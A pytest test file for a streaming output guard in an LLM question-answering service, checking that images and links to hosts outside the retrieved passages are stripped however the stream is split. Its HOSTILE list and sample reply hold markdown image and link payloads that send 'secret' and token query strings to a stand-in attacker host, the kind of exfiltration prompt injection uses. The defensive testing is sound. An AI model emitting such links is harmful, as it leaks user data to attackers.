"""StreamGuard: streamed LLM text gets the checked answer's link rules, whatever the pieces."""

from __future__ import annotations

import random

import pytest

from qa_service.answer.verify import StreamGuard, sanitize_links
from qa_service.schemas import Passage
from tests.answer.conftest import make_passages

SUPPORT = "https://aurora.example/support"
HOSTILE = [
    "![x](http://evil.example/leak?q=secret)",
    "![](https://evil.example/pixel.png)",
    "[click](http://evil.example)",
    "[2](http://evil.example/cite)",
    "http://evil.example/bare?token=abc",
    "www.evil.example/path",
    "<http://evil.example/auto>",
    # with spaces inside: never split at those spaces
    '<img src="http://evil.example/i.png">',
    "[click here please](https://evil.example/phish?id=1)",
    "![an image](http://evil.example/leak?q=secret)",
]
REPLY = (
    "The Aurora 3 battery lasts 14 hours [1]. ![x](http://evil.example/leak?q=secret) "
    "It weighs 1.2 kilograms [2]. See [click](http://evil.example) for more, or "
    "http://evil.example/bare?token=abc and www.evil.example/path.\n"
    "Reset help: " + SUPPORT + " [3]. ![](https://evil.example/pixel.png) "
    "and [support](" + SUPPORT + ").\n<http://evil.example/auto> [1][3] done."
)
@pytest.fixture
def passages(english: list[Passage]) -> list[Passage]:
    assert SUPPORT in english[2].text  # the only URL the passages offer
    return english


def pieces(text: str, size: int) -> list[str]:
    return [text[i:i + size] for i in range(0, len(text), size)]


def guarded(passages: list[Passage], parts: list[str]) -> tuple[list[str], str]:
    guard = StreamGuard(passages)
    released = [guard.feed(part) for part in parts]
    released.append(guard.flush())
    return released, "".join(released)


@pytest.mark.parametrize("size", range(1, 8))
def test_images_and_foreign_links_never_come_out(passages: list[Passage], size: int) -> None:
    _, output = guarded(passages, pieces(REPLY, size))
    assert "evil.example" not in output
    assert "![" not in output and "](http://" not in output and "http://" not in output
    # what is allowed survives: the passage's URL (bare and as a link), labels, markers
    assert output.count(SUPPORT) == 2
    assert f"[support]({SUPPORT})" in output
    assert "[1]" in output and "[2]" in output and "[3]" in output and "[1][3]" in output
    assert "See click for more" in output
    assert "The Aurora 3 battery lasts 14 hours [1]." in output
    assert output.rstrip().endswith("done.")


@pytest.mark.parametrize("size", range(1, 8))
@pytest.mark.parametrize("hostile", HOSTILE)
def test_each_hostile_form_alone_is_removed(passages: list[Passage], hostile: str,
                                            size: int) -> None:
    text = f"Before {hostile} after [1]."
    _, output = guarded(passages, pieces(text, size))
    assert "evil.example" not in output
    assert output.startswith("Before") and output.endswith("after [1].")


@pytest.mark.parametrize("size", range(1, 8))
def test_pieces_give_the_same_text_as_the_whole(passages: list[Passage], size: int) -> None:
    """Cutting the stream anywhere changes nothing but (at most) runs of spaces."""
    _, output = guarded(passages, pieces(REPLY, size))
    whole = sanitize_links(REPLY, frozenset({SUPPORT}))
    assert output.split() == whole.split()


def test_links_with_spaces_inside_are_removed_whole(passages: list[Passage]) -> None:
    for hostile in HOSTILE[-3:]:
        text = f"Before {hostile} after [1]."
        whole = sanitize_links(text, frozenset({SUPPORT}))
        for size in range(1, 8):
            _, output = guarded(passages, pieces(text, size))
            assert output.split() == whole.split(), (hostile, size, output)


def test_an_image_of_a_passage_url_never_streams() -> None:
    """Images are removed always, even when a (hostile) passage writes their URL."""
    text = "Revenue grew by 10 percent. Details: http://evil.example/leak?q=secret"
    (passage,) = make_passages([text])
    reply = "Revenue grew by 10 percent [1]. ![an image](http://evil.example/leak?q=secret) ok."
    assert "evil.example" not in sanitize_links(reply, frozenset(
        {"http://evil.example/leak?q=secret"}))
    for size in range(1, 8):
        _, output = guarded([passage], pieces(reply, size))
        assert "![" not in output and "evil.example" not in output, (size, output)


def test_random_cuts_never_leak(passages: list[Passage]) -> None:
    chooser = random.Random(20240601)
    for _ in range(200):
        cuts = sorted(chooser.sample(range(1, len(REPLY)), chooser.randint(1, 40)))
        parts = [REPLY[a:b] for a, b in zip([0, *cuts], [*cuts, len(REPLY)], strict=True)]
        _, output = guarded(passages, parts)
        assert "evil.example" not in output
        assert output.count(SUPPORT) == 2


def test_a_passage_url_survives(passages: list[Passage]) -> None:
    text = f"Details are at {SUPPORT} and [the support page]({SUPPORT}). "
    for size in range(1, 8):
        _, output = guarded(passages, pieces(text, size))
        assert output == text
    # a longer URL that merely starts with the passage's URL is not the passage's URL
    _, output = guarded(passages, [f"Go to {SUPPORT}/../../evil ok."])
    assert SUPPORT not in output and output == "Go to ok."


def test_citation_markers_pass(passages: list[Passage]) -> None:
    text = "Lasts 14 hours [1]. Weighs 1.2 kg [2][3]. Both [1, 2]. Sources [passage 3].\n"
    for size in range(1, 8):
        _, output = guarded(passages, pieces(text, size))
        assert output == text


def test_plain_text_is_released_at_whitespace(passages: list[Passage]) -> None:
    guard = StreamGuard(passages)
    assert guard.feed("The Aurora 3 bat") == "The Aurora 3 "
    assert guard.feed("tery") == ""
    assert guard.feed(" lasts") == "battery "
    assert guard.feed(" 14 hours.\nIt") == "lasts 14 hours.\n"
    assert guard.flush() == "It"
    assert guard.flush() == ""


def test_plain_text_streams_word_by_word(passages: list[Passage]) -> None:
    words = "The battery lasts fourteen hours on a single charge and weighs little .".split()
    released, output = guarded(passages, [word + " " for word in words])
    assert released[:-1] == [word + " " for word in words]  # nothing held back
    assert released[-1] == ""
    assert output == " ".join(words) + " "


def test_unfinished_links_and_urls_are_held_not_dropped(passages: list[Passage]) -> None:
    guard = StreamGuard(passages)
    assert guard.feed("See [cl") == "See "
    assert guard.feed("ick](http://evil.") == ""
    assert guard.feed("example/x) now and http://evil.exa") == "click now and "
    assert guard.feed("mple/y then [1") == " then "  # the URL is gone
    assert guard.feed("] end") == "[1] "
    assert guard.flush() == "end"
